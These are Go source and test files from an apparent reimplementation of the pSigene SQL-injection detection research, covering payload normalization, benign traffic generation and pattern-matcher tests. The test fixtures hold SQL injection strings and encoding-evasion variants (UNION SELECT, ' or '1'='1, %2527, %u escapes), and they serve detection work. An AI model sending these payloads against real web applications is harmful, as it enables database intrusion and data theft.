		if bytes.Equal(nb.next, nb.prev) {
			break
		}
		nb.prev, nb.next = nb.next, nb.prev
	}
	nb.mid = appendHTMLEntityDecode(nb.mid[:0], nb.prev)
	nb.next = appendLower(nb.next[:0], nb.mid)
	nb.out = appendCollapseWhitespace(nb.out[:0], nb.next)
	return nb.out
}

// appendURLDecode is URLDecode appending into dst.
func appendURLDecode(dst, src []byte) []byte {
	for i := 0; i < len(src); i++ {
		c := src[i]
		switch c {
		case '+':
			dst = append(dst, ' ')
		case '%':
			if i+2 < len(src) {
				hi, ok1 := hexVal(src[i+1])
				lo, ok2 := hexVal(src[i+2])
				if ok1 && ok2 {
					dst = append(dst, hi<<4|lo)
					i += 2
					continue
				}
			}
			dst = append(dst, c)
		default:
			dst = append(dst, c)
		}
	}
	return dst
}

// appendUnicodeToASCII is UnicodeToASCII appending into dst.
func appendUnicodeToASCII(dst, src []byte) []byte {
	for i := 0; i < len(src); {
		if src[i] == '%' && i+5 < len(src) && (src[i+1] == 'u' || src[i+1] == 'U') {
			h1, ok1 := hexVal(src[i+2])
			h2, ok2 := hexVal(src[i+3])
			h3, ok3 := hexVal(src[i+4])
			h4, ok4 := hexVal(src[i+5])
			if ok1 && ok2 && ok3 && ok4 {
				r := rune(h1)<<12 | rune(h2)<<8 | rune(h3)<<4 | rune(h4)
				dst = utf8.AppendRune(dst, foldToASCII(r))
				i += 6
				continue
			}
		}
		r, size := decodeRuneBytes(src[i:])
		dst = utf8.AppendRune(dst, foldToASCII(r))
		i += size
	}
	return dst
}

// decodeRuneBytes mirrors decodeRune for byte slices: invalid UTF-8 (and
// a literal U+FFFD, which decodeRune's range-loop check also treats as
// invalid) falls back to Latin-1 single bytes.
func decodeRuneBytes(src []byte) (rune, int) {
	if src[0] < 0x80 {
		return rune(src[0]), 1
	}
	r, size := utf8.DecodeRune(src)
	if r == unicode.ReplacementChar {
		return rune(src[0]), 1
	}
	return r, size
}

// appendHTMLEntityDecode is HTMLEntityDecode appending into dst. The
// entity-name lowering stays allocation-free for ASCII names (the only
// kind that can resolve, modulo non-ASCII runes that lower into ASCII —
// those take the allocating strings.ToLower fallback for exactness).
func appendHTMLEntityDecode(dst, src []byte) []byte {
	for i := 0; i < len(src); {
		c := src[i]
		if c != '&' {
			dst = append(dst, c)
			i++
			continue
		}
		semi := bytes.IndexByte(src[i:], ';')
		if semi <= 1 || semi > 10 {
			dst = append(dst, c)
			i++
			continue
		}
		name := src[i+1 : i+semi]
		if r, ok := lookupEntity(name); ok {
			dst = utf8.AppendRune(dst, r)
			i += semi + 1
			continue
		}
		if name[0] == '#' {
			if r, ok := parseNumericEntity(name[1:]); ok {
				dst = utf8.AppendRune(dst, r)
				i += semi + 1
				continue
			}
		}
		dst = append(dst, c)
		i++
	}
	return dst
}

// lookupEntity resolves a named entity, lowering the name the way
// HTMLEntityDecode does (strings.ToLower) without allocating for ASCII
// names. Entity names are at most 9 bytes by the semi <= 10 guard.
func lookupEntity(name []byte) (rune, bool) {
	var buf [10]byte
	for i, c := range name {
		if c >= 0x80 {
			// Unicode lowering can differ from ASCII folding here (e.g.
			// İ U+0130 lowers into ASCII 'i'); defer to the reference.
			r, ok := htmlEntities[strings.ToLower(string(name))]
			return r, ok
		}
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		buf[i] = c
	}
	r, ok := htmlEntities[string(buf[:len(name)])]
	return r, ok
}

// appendLower mirrors strings.ToLower (strings.Map over unicode.ToLower:
// each invalid byte becomes U+FFFD) appending into dst.
func appendLower(dst, src []byte) []byte {
	for i := 0; i < len(src); {
		if c := src[i]; c < 0x80 {
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			dst = append(dst, c)
			i++
			continue
		}
		r, size := utf8.DecodeRune(src[i:])
		dst = utf8.AppendRune(dst, unicode.ToLower(r))
		i += size
	}
	return dst
}

// appendCollapseWhitespace is CollapseWhitespace appending into dst. dst
// must start empty: the leading-space suppression keys off len(dst).
func appendCollapseWhitespace(dst, src []byte) []byte {
	inWS := false
	for i := 0; i < len(src); i++ {
		c := src[i]
		if c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v' {
			inWS = true
			continue
		}
		if inWS && len(dst) > 0 {
			dst = append(dst, ' ')
		}
		inWS = false
		dst = append(dst, c)
	}
	return dst
}
