package normalize

import (
	"testing"
	"testing/quick"
)

// bufferParitySamples covers every stage and its edge cases: encodings,
// double encodings, broken escapes, entities (named, numeric, uppercase,
// unknown), fullwidth forms, %uXXXX, invalid UTF-8, a literal U+FFFD,
// fold-sensitive runes, and whitespace shapes.
var bufferParitySamples = []string{
	"",
	"id=42",
	"1%27%20UNION%20SELECT%20*%20FROM%20users--",
	"%2527 double encoded",
	"a+b+c",
	"broken %2 escape % and %zz",
	"&quot;&APOS;&#39;&#x27;&unknown;&#xZZ;&;& amp;",
	"&semi&semi;",
	"%uFF35%uFF2E%uFF29%uFF2F%uFF2E fullwidth",
	"ＵＮＩＯＮ raw fullwidth",
	"　ideographic　space　",
	"mixed \xc3\x28 invalid utf8 \xff\xfe bytes",
	"literal replacement � char",
	"long s ſ and kelvin K",
	"dotted capital I İ lowers to ascii",
	"  \t\n\r\f\v  whitespace   runs  ",
	"trailing ws \t ",
	"UPPER lower MiXeD",
	"%u0041%U0061 iis escapes",
	"&#1114111; &#1114112; &#x10FFFF; &#xD800;",
}

func TestBufferMatchesReference(t *testing.T) {
	var nb Buffer
	for _, s := range bufferParitySamples {
		want := NormalizeReference(s)
		if got := string(nb.Normalize(s)); got != want {
			t.Errorf("Buffer.Normalize(%q) = %q, want %q", s, got, want)
		}
		if got := string(nb.NormalizeBytes([]byte(s))); got != want {
			t.Errorf("Buffer.NormalizeBytes(%q) = %q, want %q", s, got, want)
		}
		if got := Normalize(s); got != want {
			t.Errorf("Normalize(%q) = %q, want %q", s, got, want)
		}
	}
}

// TestBufferMatchesReferenceQuick drives the parity over random byte
// strings, the same idiom as the CSR and parallel-train parity suites.
func TestBufferMatchesReferenceQuick(t *testing.T) {
	var nb Buffer
	f := func(raw []byte) bool {
		s := string(raw)
		return string(nb.Normalize(s)) == NormalizeReference(s)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// TestBufferSteadyStateZeroAlloc pins the zero-allocation contract of a
// held Buffer once its buffers have grown to the workload.
func TestBufferSteadyStateZeroAlloc(t *testing.T) {
	var nb Buffer
	samples := bufferParitySamples
	for _, s := range samples { // warm the buffers
		nb.Normalize(s)
	}
	allocs := testing.AllocsPerRun(50, func() {
		for _, s := range samples {
			nb.Normalize(s)
		}
	})
	// The only allocating sample class is non-ASCII entity names (the
	// strings.ToLower fallback); none are in the steady-state set.
	if allocs != 0 {
		t.Fatalf("steady-state Normalize allocated %.1f objects per pass", allocs)
	}
}
