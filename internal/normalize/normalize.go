// Package normalize implements the five sample transformations pSigene
// applies to crawled attack samples before feature extraction (§II-A):
//
//  1. uppercase → lowercase
//  2. URL encoding → ASCII (percent-decoding, '+' as space)
//  3. unicode → ASCII (IIS-style %uXXXX escapes and fullwidth forms)
//  4. HTML entities → characters
//  5. whitespace canonicalization (tabs, newlines, repeated blanks → one space)
//
// Normalize applies all five in that order. Decoding runs to a bounded
// fixpoint so double-encoded payloads (%2527 → %27 → ') normalize the same
// way single-encoded ones do.
package normalize

import (
	"strings"
	"unicode"
)

// maxDecodePasses bounds the decode-to-fixpoint loop; real payloads are at
// most double- or triple-encoded.
const maxDecodePasses = 4

// Normalize applies the full five-transformation pipeline. It delegates
// to Buffer, the allocation-free byte implementation the serving path
// holds per session, so the training and serving views of a sample are
// one code path. The individual exported transformations below remain
// the reference implementations; parity tests compare the two.
func Normalize(s string) string {
	var nb Buffer
	return string(nb.Normalize(s))
}

// NormalizeReference is the composed string-transformation pipeline the
// package documentation describes, kept as the oracle the Buffer path is
// parity-tested against.
func NormalizeReference(s string) string {
	prev := s
	for i := 0; i < maxDecodePasses; i++ {
		next := URLDecode(prev)
		next = UnicodeToASCII(next)
		if next == prev {
			break
		}
		prev = next
	}
	prev = HTMLEntityDecode(prev)
	prev = Lowercase(prev)
	return CollapseWhitespace(prev)
}

// Lowercase is transformation 1: ASCII case folding.
func Lowercase(s string) string { return strings.ToLower(s) }

func hexVal(b byte) (byte, bool) {
	switch {
	case b >= '0' && b <= '9':
		return b - '0', true
	case b >= 'a' && b <= 'f':
		return b - 'a' + 10, true
	case b >= 'A' && b <= 'F':
		return b - 'A' + 10, true
	}
	return 0, false
}

// URLDecode is transformation 2: percent-decoding with '+' treated as a
// space, tolerant of malformed escapes (left as-is rather than erroring —
// attack payloads are frequently malformed on purpose).
func URLDecode(s string) string {
	if !strings.ContainsAny(s, "%+") {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch c {
		case '+':
			b.WriteByte(' ')
		case '%':
			if i+2 < len(s) {
				hi, ok1 := hexVal(s[i+1])
				lo, ok2 := hexVal(s[i+2])
				if ok1 && ok2 {
					b.WriteByte(hi<<4 | lo)
					i += 2
					continue
				}
			}
			b.WriteByte(c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// UnicodeToASCII is transformation 3: it decodes IIS-style %uXXXX escapes
// and maps fullwidth/compatibility forms (Ｕ ＮＩＯＮ, ＇) to their ASCII
// equivalents, leaving other runes untouched.
func UnicodeToASCII(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		if s[i] == '%' && i+5 < len(s) && (s[i+1] == 'u' || s[i+1] == 'U') {
			h1, ok1 := hexVal(s[i+2])
			h2, ok2 := hexVal(s[i+3])
			h3, ok3 := hexVal(s[i+4])
			h4, ok4 := hexVal(s[i+5])
			if ok1 && ok2 && ok3 && ok4 {
				r := rune(h1)<<12 | rune(h2)<<8 | rune(h3)<<4 | rune(h4)
				b.WriteRune(foldToASCII(r))
				i += 6
				continue
			}
		}
		r, size := decodeRune(s[i:])
		b.WriteRune(foldToASCII(r))
		i += size
	}
	return b.String()
}

// decodeRune reads one rune, treating invalid UTF-8 bytes as Latin-1 so
// that raw high bytes in payloads survive rather than becoming U+FFFD.
func decodeRune(s string) (rune, int) {
	if s[0] < 0x80 {
		return rune(s[0]), 1
	}
	for _, r := range s { // first rune only
		if r == unicode.ReplacementChar {
			return rune(s[0]), 1
		}
		return r, len(string(r))
	}
	return rune(s[0]), 1
}

// foldToASCII maps fullwidth forms (U+FF01–U+FF5E) onto ASCII 0x21–0x7E and
// the ideographic space onto a plain space.
func foldToASCII(r rune) rune {
	switch {
	case r >= 0xFF01 && r <= 0xFF5E:
		return r - 0xFF01 + 0x21
	case r == 0x3000: // ideographic space
		return ' '
	}
	return r
}

// htmlEntities is the small set of named entities that appear in web attack
// payloads; numeric entities are decoded generically.
var htmlEntities = map[string]rune{
	"amp": '&', "lt": '<', "gt": '>', "quot": '"', "apos": '\'',
	"nbsp": ' ', "sol": '/', "num": '#', "semi": ';', "equals": '=',
}

// HTMLEntityDecode is transformation 4: named and numeric entity decoding
// (&#39; &#x27; &quot; …). Unknown or unterminated entities pass through.
func HTMLEntityDecode(s string) string {
	amp := strings.IndexByte(s, '&')
	if amp < 0 {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		c := s[i]
		if c != '&' {
			b.WriteByte(c)
			i++
			continue
		}
		semi := strings.IndexByte(s[i:], ';')
		if semi <= 1 || semi > 10 {
			b.WriteByte(c)
			i++
			continue
		}
		name := s[i+1 : i+semi]
		if r, ok := htmlEntities[strings.ToLower(name)]; ok {
			b.WriteRune(r)
			i += semi + 1
			continue
		}
		if name[0] == '#' {
			if r, ok := parseNumericEntity(name[1:]); ok {
				b.WriteRune(r)
				i += semi + 1
				continue
			}
		}
		b.WriteByte(c)
		i++
	}
	return b.String()
}

func parseNumericEntity[T ~string | ~[]byte](s T) (rune, bool) {
	if len(s) == 0 {
		return 0, false
	}
	base := 10
	if s[0] == 'x' || s[0] == 'X' {
		base = 16
		s = s[1:]
		if len(s) == 0 {
			return 0, false
		}
	}
	var v rune
	for i := 0; i < len(s); i++ {
		d, ok := hexVal(s[i])
		if !ok || (base == 10 && d > 9) {
			return 0, false
		}
		v = v*rune(base) + rune(d)
		if v > 0x10FFFF {
			return 0, false
		}
	}
	return v, true
}

// CollapseWhitespace is transformation 5: every run of whitespace
// (space, tab, CR, LF, FF, VT) becomes a single space; leading and trailing
// whitespace is removed.
func CollapseWhitespace(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	inWS := false
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' || c == '\v' {
			inWS = true
			continue
		}
		if inWS && b.Len() > 0 {
			b.WriteByte(' ')
		}
		inWS = false
		b.WriteByte(c)
	}
	return b.String()
}
