package normalize

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestLowercase(t *testing.T) {
	if got := Lowercase("UNION SeLeCt 1"); got != "union select 1" {
		t.Fatalf("got %q", got)
	}
}

func TestURLDecode(t *testing.T) {
	cases := []struct{ in, want string }{
		{"id=1%27%20or%201%3D1", "id=1' or 1=1"},
		{"a+b", "a b"},
		{"%", "%"},         // lone percent passes through
		{"%2", "%2"},       // truncated escape passes through
		{"%zz", "%zz"},     // invalid hex passes through
		{"%2527", "%27"},   // single pass only decodes one layer
		{"plain", "plain"}, // fast path
		{"%00", "\x00"},    // null byte decodes
		{"100%25", "100%"}, // encoded percent
	}
	for _, c := range cases {
		if got := URLDecode(c.in); got != c.want {
			t.Fatalf("URLDecode(%q)=%q, want %q", c.in, got, c.want)
		}
	}
}

func TestUnicodeToASCII(t *testing.T) {
	cases := []struct{ in, want string }{
		{"%u0027", "'"},          // IIS-style escape
		{"%u0055NION", "UNION"},  // escape followed by text
		{"ＵＮＩＯＮ", "UNION"},       // fullwidth letters
		{"＇ or １=１", "' or 1=1"}, // fullwidth quote/digits
		{"　", " "},               // ideographic space
		{"%uZZZZ", "%uZZZZ"},     // malformed escape passes through
		{"café", "café"},         // non-foldable runes untouched
	}
	for _, c := range cases {
		if got := UnicodeToASCII(c.in); got != c.want {
			t.Fatalf("UnicodeToASCII(%q)=%q, want %q", c.in, got, c.want)
		}
	}
}

func TestUnicodeToASCIIInvalidUTF8(t *testing.T) {
	// Raw high bytes (Latin-1 style) must survive, not become U+FFFD.
	in := "a\xa7b"
	got := UnicodeToASCII(in)
	if strings.ContainsRune(got, '�') {
		t.Fatalf("invalid UTF-8 replaced: %q", got)
	}
}

func TestHTMLEntityDecode(t *testing.T) {
	cases := []struct{ in, want string }{
		{"&#39;", "'"},
		{"&#x27;", "'"},
		{"&quot;x&quot;", `"x"`},
		{"&apos;&amp;&lt;&gt;", `'&<>`},
		{"a&b", "a&b"},                   // bare ampersand
		{"&unknown;", "&unknown;"},       // unknown entity passes through
		{"&#;", "&#;"},                   // empty numeric
		{"&#x;", "&#x;"},                 // empty hex
		{"&#999999999;", "&#999999999;"}, // out of range
		{"no entities", "no entities"},
	}
	for _, c := range cases {
		if got := HTMLEntityDecode(c.in); got != c.want {
			t.Fatalf("HTMLEntityDecode(%q)=%q, want %q", c.in, got, c.want)
		}
	}
}

func TestCollapseWhitespace(t *testing.T) {
	cases := []struct{ in, want string }{
		{"a  b", "a b"},
		{"\t a \r\n b \f", "a b"},
		{"   ", ""},
		{"one", "one"},
	}
	for _, c := range cases {
		if got := CollapseWhitespace(c.in); got != c.want {
			t.Fatalf("CollapseWhitespace(%q)=%q, want %q", c.in, got, c.want)
		}
	}
}

func TestNormalizePipeline(t *testing.T) {
	cases := []struct{ in, want string }{
		// Classic encoded injection.
		{"id=1%27%20OR%20%271%27%3D%271", "id=1' or '1'='1"},
		// Double-encoded quote reaches the same fixpoint.
		{"id=1%2527", "id=1'"},
		// Unicode evasion folds to the plain form.
		{"q=%u0055NION%20%u0053ELECT", "q=union select"},
		// HTML entities and whitespace.
		{"x=&#39;+OR++1=1", "x=' or 1=1"},
		// Plus-as-space and case folding together.
		{"a=UNION+SELECT+1,2", "a=union select 1,2"},
	}
	for _, c := range cases {
		if got := Normalize(c.in); got != c.want {
			t.Fatalf("Normalize(%q)=%q, want %q", c.in, got, c.want)
		}
	}
}

// Property: Normalize is idempotent on its own output.
func TestNormalizeIdempotent(t *testing.T) {
	f := func(s string) bool {
		n1 := Normalize(s)
		return Normalize(n1) == n1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// Property: output contains no uppercase ASCII and no runs of blanks.
func TestNormalizeInvariants(t *testing.T) {
	f := func(s string) bool {
		n := Normalize(s)
		if strings.Contains(n, "  ") {
			return false
		}
		for i := 0; i < len(n); i++ {
			if n[i] >= 'A' && n[i] <= 'Z' {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}
