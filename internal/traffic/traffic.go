// Package traffic generates benign HTTP GET traffic standing in for the
// paper's one-week university network trace (1.4M requests, no attacks).
// The generator deliberately includes SQL-adjacent benign content — search
// queries like "union college course selection", names with apostrophes,
// pagination and sort parameters ("order=desc") — because the paper's
// false-positive analysis hinges on exactly this kind of near-miss traffic.
package traffic

import (
	"fmt"
	"math/rand"
	"strconv"
	"strings"

	"psigene/internal/httpx"
)

// Generator produces benign requests deterministically from its seed.
type Generator struct {
	rng *rand.Rand
}

// NewGenerator returns a benign-traffic generator.
func NewGenerator(seed int64) *Generator {
	return &Generator{rng: rand.New(rand.NewSource(seed))}
}

var (
	hosts = []string{
		"www.university.edu", "registrar.university.edu", "pay.university.edu",
		"mail.university.edu", "library.university.edu",
	}
	paths = []string{
		"/", "/index.html", "/courses/list.php", "/search", "/news/article.php",
		"/calendar/events.php", "/directory/person.php", "/library/catalog.php",
		"/mail/inbox.php", "/payments/invoice.php", "/registration/enroll.php",
		"/downloads/form.pdf", "/images/logo.png", "/css/main.css", "/js/app.js",
	}
	searchTerms = []string{
		"union college transfer credits", "course selection spring",
		"select committee minutes", "drop a class deadline",
		"group by residence hall", "order of commencement events",
		"where to park on campus", "union hall reservation",
		"insert card reader locations", "database systems syllabus",
		"introduction to sql", "joint degree programs", "o'brien hall hours",
		"d'angelo scholarship", "men's soccer schedule", "rock & roll history",
		"c++ programming course", "50% tuition waiver", "research (undergraduate)",
		"what is a b+ grade", "email quota limit", "library -- quiet floors",
		"excel concat( formula tutorial", "select union committee agenda",
		"insert tabs into binder", "delete history from browser",
		"table drop cloth sizes", "order by: 3 business days",
	}
	names = []string{
		"smith", "johnson", "o'brien", "d'angelo", "garcia", "miller",
		"chen", "patel", "kim", "nguyen", "o'connor",
	}
	sortFields = []string{"date", "title", "name", "price", "relevance"}
	categories = []string{"news", "events", "sports", "academics", "research", "alumni"}
)

// nearMisses are rare benign payloads that resemble attack fragments —
// the strings behind real-world IDS false positives. Their relative
// weights shape the FPR ordering the paper reports (Snort highest, then
// ModSec, then pSigene, Bro at zero).
var nearMisses = []struct {
	weight int
	query  string
}{
	{12, "q=please+order+by+{N}+pm+today"},
	{3, "q=the+term+%27or%27+%3D+logical+alternative"},
	{7, "q=how+to+insert+into+pdf+a+signature"},
	{7, "q=delete+from+history+in+browser"},
	{4, "q=bobby+tables+xkcd+drop+table+meme"},
	{2, "q=credit+union+select+committee+minutes"},
	{5, "q=excel+concat%28+chapter+{N}--+examples"},
}

// nearMissProb is the probability of emitting a near-miss request;
// calibrated so a 1-week-scale trace yields the paper's handful of false
// alarms per engine.
const nearMissProb = 0.002

// Request draws one benign request.
func (g *Generator) Request() httpx.Request {
	r := httpx.Request{
		Method: "GET",
		Host:   hosts[g.rng.Intn(len(hosts))],
		Tool:   "benign",
	}
	if g.rng.Float64() < nearMissProb {
		var total int
		for _, nm := range nearMisses {
			total += nm.weight
		}
		x := g.rng.Intn(total)
		for _, nm := range nearMisses {
			if x < nm.weight {
				r.Path = "/search"
				r.RawQuery = nm.query
				r.RawQuery = strings.ReplaceAll(r.RawQuery, "{N}", strconv.Itoa(1+g.rng.Intn(9)))
				return r
			}
			x -= nm.weight
		}
	}
	switch g.rng.Intn(10) {
	case 0, 1: // static asset or bare page
		r.Path = paths[g.rng.Intn(len(paths))]
	case 2, 3: // search
		r.Path = "/search"
		term := searchTerms[g.rng.Intn(len(searchTerms))]
		r.RawQuery = "q=" + encodeQuery(term) + fmt.Sprintf("&page=%d", 1+g.rng.Intn(20))
	case 4: // directory lookup with apostrophe-bearing names
		r.Path = "/directory/person.php"
		r.RawQuery = "last=" + encodeQuery(names[g.rng.Intn(len(names))]) + "&dept=" + categories[g.rng.Intn(len(categories))]
	case 5: // listing with pagination and sorting
		r.Path = "/courses/list.php"
		r.RawQuery = fmt.Sprintf("cat=%s&sort=%s&order=%s&limit=%d&offset=%d",
			categories[g.rng.Intn(len(categories))],
			sortFields[g.rng.Intn(len(sortFields))],
			pickDir(g.rng), 10+g.rng.Intn(90), g.rng.Intn(500))
	case 6: // article by numeric id
		r.Path = "/news/article.php"
		r.RawQuery = fmt.Sprintf("id=%d", 1+g.rng.Intn(99999))
	case 7: // calendar range
		r.Path = "/calendar/events.php"
		r.RawQuery = fmt.Sprintf("from=2012-%02d-%02d&to=2012-%02d-%02d&view=month",
			1+g.rng.Intn(12), 1+g.rng.Intn(28), 1+g.rng.Intn(12), 1+g.rng.Intn(28))
	case 8: // payment/invoice with tokens
		r.Path = "/payments/invoice.php"
		r.RawQuery = fmt.Sprintf("invoice=INV-%06d&session=%x", g.rng.Intn(999999), g.rng.Uint64())
	default: // free-text feedback form preview (GET)
		r.Path = "/feedback/preview.php"
		msg := searchTerms[g.rng.Intn(len(searchTerms))] + " " + names[g.rng.Intn(len(names))]
		r.RawQuery = "msg=" + encodeQuery(msg) + "&rating=" + fmt.Sprint(1+g.rng.Intn(5))
	}
	return r
}

// Requests draws n benign requests.
func (g *Generator) Requests(count int) []httpx.Request {
	out := make([]httpx.Request, count)
	for i := range out {
		out[i] = g.Request()
	}
	return out
}

func pickDir(rng *rand.Rand) string {
	if rng.Intn(2) == 0 {
		return "asc"
	}
	return "desc"
}

// encodeQuery form-encodes a free-text value the way browsers do: spaces to
// '+', reserved bytes percent-encoded.
func encodeQuery(s string) string {
	const hexDigits = "0123456789ABCDEF"
	var b strings.Builder
	b.Grow(len(s) + 8)
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == ' ':
			b.WriteByte('+')
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9',
			c == '-' || c == '_' || c == '.' || c == '~':
			b.WriteByte(c)
		default:
			b.WriteByte('%')
			b.WriteByte(hexDigits[c>>4])
			b.WriteByte(hexDigits[c&0xf])
		}
	}
	return b.String()
}
