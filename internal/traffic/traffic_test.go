package traffic

import (
	"strings"
	"testing"

	"psigene/internal/normalize"
)

func TestGeneratorDeterministic(t *testing.T) {
	a := NewGenerator(42).Requests(100)
	b := NewGenerator(42).Requests(100)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("request %d differs across identical seeds", i)
		}
	}
}

func TestRequestsAreBenign(t *testing.T) {
	for _, r := range NewGenerator(1).Requests(200) {
		if r.Malicious {
			t.Fatal("benign generator produced Malicious=true")
		}
		if r.Tool != "benign" {
			t.Fatalf("tool=%q", r.Tool)
		}
		if r.Method != "GET" || r.Host == "" || r.Path == "" {
			t.Fatalf("malformed request %+v", r)
		}
	}
}

func TestTrafficDiversity(t *testing.T) {
	reqs := NewGenerator(2).Requests(500)
	paths := map[string]bool{}
	withQuery := 0
	for _, r := range reqs {
		paths[r.Path] = true
		if r.RawQuery != "" {
			withQuery++
		}
	}
	if len(paths) < 8 {
		t.Fatalf("only %d distinct paths", len(paths))
	}
	if withQuery < len(reqs)/2 {
		t.Fatalf("only %d/%d requests carry query strings", withQuery, len(reqs))
	}
}

func TestTrafficContainsNearMisses(t *testing.T) {
	// The FPR stress content must actually appear: SQL keywords in benign
	// search text and apostrophes in names.
	var sawKeyword, sawApostrophe bool
	for _, r := range NewGenerator(3).Requests(2000) {
		p := normalize.Normalize(r.Payload())
		if strings.Contains(p, "union") || strings.Contains(p, "select") ||
			strings.Contains(p, "drop") || strings.Contains(p, "insert") {
			sawKeyword = true
		}
		if strings.Contains(p, "'") {
			sawApostrophe = true
		}
	}
	if !sawKeyword {
		t.Fatal("no SQL-keyword near-misses in benign traffic")
	}
	if !sawApostrophe {
		t.Fatal("no apostrophes in benign traffic")
	}
}

func TestEncodeQuery(t *testing.T) {
	if got := encodeQuery("a b"); got != "a+b" {
		t.Fatalf("encodeQuery=%q", got)
	}
	if got := encodeQuery("o'brien & co"); got != "o%27brien+%26+co" {
		t.Fatalf("encodeQuery=%q", got)
	}
	if got := encodeQuery("safe-._~chars"); got != "safe-._~chars" {
		t.Fatalf("encodeQuery=%q", got)
	}
}
