package acmatch

import (
	"math/rand"
	"reflect"
	"sort"
	"strings"
	"testing"
)

// collect runs Scan and returns every reported pattern index in order.
func collect(t *testing.T, a *Automaton, s string) []int {
	t.Helper()
	var got []int
	a.Scan([]byte(s), func(p int32) { got = append(got, int(p)) })
	return got
}

// naiveCount counts occurrences of pat in the folded sample, including
// overlapping ones — the semantics Scan promises per pattern.
func naiveCount(sample, pat string) int {
	f := Fold(sample)
	n := 0
	for i := 0; i+len(pat) <= len(f); i++ {
		if f[i:i+len(pat)] == pat {
			n++
		}
	}
	return n
}

func TestScanFindsEveryOccurrence(t *testing.T) {
	pats := []string{"union", "select", "or", "--", "'", "1=1", "s", "kk"}
	a, err := New(pats)
	if err != nil {
		t.Fatal(err)
	}
	samples := []string{
		"",
		"id=42",
		"1' UNION SELECT username FROM users--",
		"oorr",
		"ssss",
		"UNIONunionUnIoN",
		"a\x00b'c\xff--",
		"1=1=1",
	}
	for _, s := range samples {
		got := make(map[int]int)
		a.Scan([]byte(s), func(p int32) { got[int(p)]++ })
		for pi, pat := range pats {
			if want := naiveCount(s, pat); got[pi] != want {
				t.Errorf("sample %q pattern %q: got %d hits, want %d", s, pat, got[pi], want)
			}
		}
	}
}

func TestScanCaseInsensitive(t *testing.T) {
	a, err := New([]string{"SeLeCt", "union"})
	if err != nil {
		t.Fatal(err)
	}
	got := collect(t, a, "SELECT * FROM t uNiOn select 1")
	want := []int{0, 1, 0}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("got %v want %v", got, want)
	}
}

// TestScanUnicodeFolds pins the two non-ASCII folds: ſ U+017F scans as
// 's' and the Kelvin sign U+212A as 'k', matching Go regexp's (?i)
// simple fold for ASCII literals.
func TestScanUnicodeFolds(t *testing.T) {
	a, err := New([]string{"select", "kill"})
	if err != nil {
		t.Fatal(err)
	}
	const longS = "ſ"  // ſ, bytes C5 BF
	const kelvin = "K" // K, bytes E2 84 AA
	cases := []struct {
		name, sample string
		want         []int
	}{
		{"ascii", "select kill", []int{0, 1}},
		{"long-s", longS + "elect", []int{0}},
		{"long-s mixed case", longS + "ELECT", []int{0}},
		{"kelvin", kelvin + "ill", []int{1}},
		{"both", "SELECT " + kelvin + "ILL", []int{0, 1}},
		{"bare long-s pair", longS + longS, nil},
		{"double kelvin", kelvin + kelvin + "ill", []int{1}},
	}
	for _, c := range cases {
		if got := collect(t, a, c.sample); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s (%q): got %v want %v", c.name, c.sample, got, c.want)
		}
	}
}

func TestFold(t *testing.T) {
	if got := Fold("AbC ſ K \xc5x \xe2\x84x"); got != "abc s k \xc5x \xe2\x84x" {
		t.Fatalf("Fold = %q", got)
	}
}

func TestNewRejectsBadPatterns(t *testing.T) {
	if _, err := New([]string{""}); err == nil {
		t.Fatal("empty pattern accepted")
	}
	if _, err := New([]string{"caf\xc3\xa9"}); err == nil {
		t.Fatal("non-ASCII pattern accepted")
	}
}

// TestDeterministicConstruction compiles the same set twice and compares
// the automata field by field.
func TestDeterministicConstruction(t *testing.T) {
	ps := []string{"or", "union", "select", "'", "=", "--", "s", "sel"}
	a, err := New(ps)
	if err != nil {
		t.Fatal(err)
	}
	b, err := New(ps)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(a.next, b.next) || !reflect.DeepEqual(a.out, b.out) {
		t.Fatal("same pattern list produced different automata")
	}
}

// TestScanMatchesNaiveRandomized cross-checks the automaton against the
// naive folded-substring count on random byte strings drawn from an
// alphabet rich in fold-relevant bytes.
func TestScanMatchesNaiveRandomized(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	alphabet := []byte("aAbB'=-\xc5\xbf\xe2\x84\xaa\x00 sSkKunio")
	ps := []string{"a", "ab", "'='", "s", "kk", "--", "ba"}
	a, err := New(ps)
	if err != nil {
		t.Fatal(err)
	}
	for trial := 0; trial < 300; trial++ {
		n := rng.Intn(40)
		buf := make([]byte, n)
		for i := range buf {
			buf[i] = alphabet[rng.Intn(len(alphabet))]
		}
		s := string(buf)
		got := make(map[int]int)
		a.Scan(buf, func(p int32) { got[int(p)]++ })
		for pi, pat := range ps {
			if want := naiveCount(s, pat); got[pi] != want {
				t.Fatalf("trial %d sample %q pattern %q: got %d want %d", trial, s, pat, got[pi], want)
			}
		}
	}
}

// TestScanHitOrder verifies hits arrive in end-position order with
// suffix-contained patterns reported at the same end position.
func TestScanHitOrder(t *testing.T) {
	a, err := New([]string{"he", "she", "his", "hers"})
	if err != nil {
		t.Fatal(err)
	}
	got := collect(t, a, "ushers")
	// "she" and its suffix "he" end at byte 4, "hers" at byte 6.
	want := []int{1, 0, 3}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("got %v want %v", got, want)
	}
	sort.Ints(got)
